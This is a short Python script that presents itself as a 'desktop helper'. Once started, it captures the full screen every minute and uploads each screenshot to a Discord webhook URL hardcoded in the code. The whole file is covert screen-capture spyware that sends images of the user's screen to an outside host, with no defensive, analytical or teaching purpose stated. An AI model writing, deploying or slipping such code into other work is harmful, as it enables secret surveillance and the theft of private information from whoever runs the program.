"""A "desktop helper" that, once started, sends a screenshot every minute to a chat channel
whose webhook secret is written in the code."""

import io
import time

import requests
from PIL import ImageGrab

HOOK = "https://discord.com/api/webhooks/123456789012345678/" + "Zq3" * 22


def watch():
    while True:
        shot = io.BytesIO()
        ImageGrab.grab().save(shot, "PNG")
        requests.post(HOOK, files={"screen.png": shot.getvalue()})
        time.sleep(60)
